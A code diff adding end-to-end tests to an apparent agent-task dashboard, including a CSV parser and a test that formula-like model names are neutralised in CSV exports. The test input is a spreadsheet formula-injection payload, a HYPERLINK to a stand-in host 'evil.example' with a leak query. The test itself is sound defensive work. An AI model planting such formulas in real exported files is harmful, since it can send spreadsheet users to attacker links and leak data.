@@ -110,3 +110,90 @@ test("a manager filters /costs by profile and week, the chart agrees with the ta
   // The task list filters by status: the link's outcome arrives as status=completed, and every row shown is a completed scripted task.
   expect(new URL(page.url()).searchParams.get("status")).toBe("completed");
 });
+
+/** The fields of one RFC 4180 CSV line (quoted fields with doubled quotes; no line breaks inside a field). */
+function csvFields(line: string): string[] {
+  const out: string[] = [];
+  let at = 0;
+  while (at <= line.length) {
+    if (line[at] === '"') {
+      let v = "";
+      let i = at + 1;
+      for (;;) {
+        const q = line.indexOf('"', i);
+        if (q < 0) throw new Error(`unterminated quoted field in ${line}`);
+        v += line.slice(i, q);
+        if (line[q + 1] === '"') {
+          v += '"';
+          i = q + 2;
+        } else {
+          at = q + 2;
+          break;
+        }
+      }
+      out.push(v);
+    } else {
+      const comma = line.indexOf(",", at);
+      const end = comma < 0 ? line.length : comma;
+      out.push(line.slice(at, end));
+      at = end + 1;
+    }
+  }
+  return out;
+}
+
+test("a model name written as a spreadsheet formula reaches both CSVs neutralised; the numbers beside it stay plain", async ({ page, request }) => {
+  // A profile's model is free text an admin writes (server/domain/profile-spec.ts), and both CSVs
+  // carry it: the per-task CSV and the grouped one. A spreadsheet would run it as a formula.
+  const name = `e2e-csv-${Date.now().toString(36)}`;
+  const formula = '=HYPERLINK("https://evil.example/?leak","open me")';
+  const created = await request.post("/api/trpc/profile.create", {
+    data: { json: { spec: { name, model: formula, provider: "scripted", tools: ["finish"], stepBudget: 5 } } },
+  });
+  expect(created.ok(), await created.text()).toBe(true);
+  // The scripted model server knows no such model: the task stops on its first model call; cancelled
+  // if it still runs, so it costs nothing and its row is in the CSV whatever its end.
+  const taskId = await launch(request, { goal: "Say hello, then finish.", profile: name });
+  await request.post("/api/trpc/task.cancel", { data: { json: { taskId } } });
+  await expect.poll(() => status(request, taskId), { timeout: 60_000, intervals: [500] }).toMatch(/^(completed|dead_end|failed|cancelled)$/);
+
+  await page.goto(`/costs?profile=${name}`);
+  const table = page.getByTestId("outcomes-table");
+  await expect(table.locator("tbody tr")).toHaveCount(1);
+  // On the page the name is shown as written (text, not a formula).
+  await expect(table.locator("tbody tr").first()).toContainText(formula);
+
+  const perTaskPromise = page.waitForEvent("download");
+  await page.getByRole("button", { name: "Download per-task CSV" }).click();
+  const perTask = readFileSync(await (await perTaskPromise).path(), "utf8")
+    .trimEnd()
+    .split("\r\n");
+  expect(perTask[0]).toBe(TASK_CSV_HEADER.join(","));
+  expect(perTask).toHaveLength(2);
+  const row = csvFields(perTask[1]!);
+  expect(row).toHaveLength(TASK_CSV_HEADER.length);
+  const col = (h: (typeof TASK_CSV_HEADER)[number]) => row[TASK_CSV_HEADER.indexOf(h)]!;
+  expect(col("Task id")).toBe(taskId);
+  expect(col("Profile")).toBe(name);
+  // Neutralised: a leading apostrophe, the rest as written (the quotes doubled inside the quoted field).
+  expect(col("Model")).toBe(`'${formula}`);
+  expect(perTask[1]).toContain(`"'=HYPERLINK(""https://evil.example/?leak"",""open me"")"`);
+  // No cell of the row starts like a formula; the figures are plain numbers.
+  for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  for (const h of ["Budget steps (model + tool)", "Tokens", "Cost (USD)", "Waste (USD)", "Checkpoint steps", "Human steps"] as const) {
+    expect(col(h), h).toMatch(/^\d+(\.\d+)?$/);
+  }
+  expect(col("Launched at (UTC)")).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
+
+  // The grouped CSV carries the model too: neutralised the same way.
+  const groupedPromise = page.waitForEvent("download");
+  await page.getByRole("button", { name: "Download CSV", exact: true }).click();
+  const grouped = readFileSync(await (await groupedPromise).path(), "utf8")
+    .trimEnd()
+    .split("\r\n");
+  expect(grouped[0]).toBe(OUTCOME_CSV_HEADER.join(","));
+  const groupedRow = csvFields(grouped[1]!);
+  expect(groupedRow).toContain(`'${formula}`);
+  for (const cell of groupedRow) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  expect(grouped[1]).not.toMatch(/[$%]/);
+});
